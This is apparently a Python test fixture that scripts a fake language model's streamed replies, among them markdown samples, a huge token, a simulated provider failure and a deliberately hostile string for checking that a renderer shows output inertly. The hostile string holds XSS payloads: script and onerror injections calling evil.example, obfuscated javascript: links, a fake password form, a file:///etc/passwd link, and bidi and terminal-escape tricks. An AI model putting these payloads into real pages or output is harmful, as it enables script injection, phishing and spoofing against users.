"""What the scripted model says in these tests, by the words that make it say so."""

import asyncio
from collections.abc import AsyncGenerator
from contextlib import aclosing
from itertools import cycle, islice

from signalbox.errors import ProviderUnavailable
from signalbox.llm.base import Finish, ModelRequest, StreamItem, TextDelta, Usage, last_user_message
from signalbox.llm.scripted import Script, ScriptedModel

MARKDOWN = """# A plan

Three steps, **in this order**, for *you*:

1. Read the `README`
2. Try it
3. [Ask](https://example.org/ask "where")

| Role | Pay |
|---|--:|
| Nurse | 39,000 |
| Baker | 31,000 |

> Quoted words.

```python
def pay(hours):
    return hours * 40
```

- [x] done
- [ ] to do

That is ~~all~~ it.
"""


def in_pieces(text: str, size: int = 7, pause_s: float = 0.02) -> list[str | float]:
    """Cut without regard to what stands there: marks come in halves."""
    pieces: list[str | float] = []
    for start in range(0, len(text), size):
        pieces += [text[start : start + size], pause_s]
    return pieces


def long_answer(events: int) -> list[str]:
    """As many pieces of an answer as models write: headings, lists, a table and code, paragraph by paragraph."""
    parts = [part + " " if not part.endswith("\n") else part for part in _words(MARKDOWN)]
    return list(islice(cycle(parts), events))


def _words(text: str) -> list[str]:
    lines = text.splitlines(keepends=True)
    return [word for line in lines for word in ([line] if line[:1] in "|`>#" or not line.strip() else _split(line))]


def _split(line: str) -> list[str]:
    head, _, tail = line.rstrip("\n").rpartition(" ")
    return [*head.split(" "), f"{tail}\n"] if head else [line]


# Everything a text may try. None of it may do anything but stand there.
HOSTILE = (
    '<script>document.title = "taken"; fetch("https://evil.example/1")</script>\n\n'
    '<img src="https://evil.example/2.png" onerror="document.title=\'taken\'">\n\n'
    "![a picture](https://evil.example/3.png)\n\n"
    '![another](https://evil.example/4.png "x\\" onerror=\\"alert(1)")\n\n'
    "<svg onload=alert(1)><a href=javascript:alert(2)>svg</a></svg>\n\n"
    '<iframe src="https://evil.example/5"></iframe><style>* { display: none }</style>\n\n'
    '<form action="https://evil.example/6"><input name=password><button>Sign in</button></form>\n\n'
    '<a href="https://evil.example/7" onclick="alert(3)">html link</a>\n\n'
    "[plain](javascript:alert(4)) [upper](JaVaScRiPt:alert(5)) [tabbed](java\tscript:alert(6)) "
    "[entity](javascript&colon;alert(7)) [coded](&#x6A;avascript:alert(8)) [led](\x01javascript:alert(9)) "
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=) [vb](vbscript:msgbox(11)) "
    "[file](file:///etc/passwd) [blob](blob:https://evil.example/8) [ref][r] <javascript:alert(12)> "
    "[kept](https://good.example/page)\n\n"
    "[r]: javascript:alert(13)\n\n"
    "```html\n<script>alert(14)</script>\n```\n\n"
    "`<img src=x onerror=alert(15)>`\n\n"
    "Right to left: \u202egnp.exe\u202c and \u2066isolated\u2069. Zero width: pay\u200bpal\u200d\ufeff.\n\n"
    "Terminal: \x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b31m bell \x07 backspace \x08\x08.\n\n"
    "| a | b |\n|---|---|\n| <script>alert(16)</script> | [x](javascript:alert(17)) |\n\n"
    + "> " * 300
    + "deep\n\n"
    + "*" * 2_000
    + "\n\n"
    + "[" * 1_000
    + "\n\n"
    + "z\u0335\u0321\u034d" * 200
    + "\n\nThe end."
)
HUGE_TOKEN = "W" * 100_000

SCRIPT = {
    "plan for me": in_pieces(MARKDOWN),
    "long answer": long_answer(5_000),
    "hostile": in_pieces(HOSTILE, 41, 0),
    "huge token": ["Before. ", HUGE_TOKEN, "\n\nAfter."],
    "break down": ["This begins well, ", 0.05, ProviderUnavailable()],
    "other words": ["Other words."],
}

# However slow the machine is, it still goes on when a test gets to look at it.
UNTIL_ENOUGH = "/ticks 9999 20 0"
SLOWLY = "slowly"
FIRST_PART = 40


class ToldModel(ScriptedModel):
    """Answers ``UNTIL_ENOUGH`` until ``enough`` is set, and what is asked for ``SLOWLY`` in two parts: the first, and
    the rest once it is set.
    """

    def __init__(self, script: Script) -> None:
        super().__init__(script)
        self.enough = asyncio.Event()

    async def stream(self, request: ModelRequest) -> AsyncGenerator[StreamItem, None]:
        asked, said = last_user_message(request), ""
        bounded, halved = asked == UNTIL_ENOUGH, asked.endswith(SLOWLY)
        async with aclosing(super().stream(request)) as items:
            async for item in items:
                if bounded and self.enough.is_set() and isinstance(item, TextDelta):
                    break
                yield item
                if halved and isinstance(item, TextDelta):
                    said += item.text
                    if len(said) > FIRST_PART:
                        await self.enough.wait()
            else:
                return
        yield Usage(self.name, 0, 0, 0, estimated=False)
        yield Finish("stop")
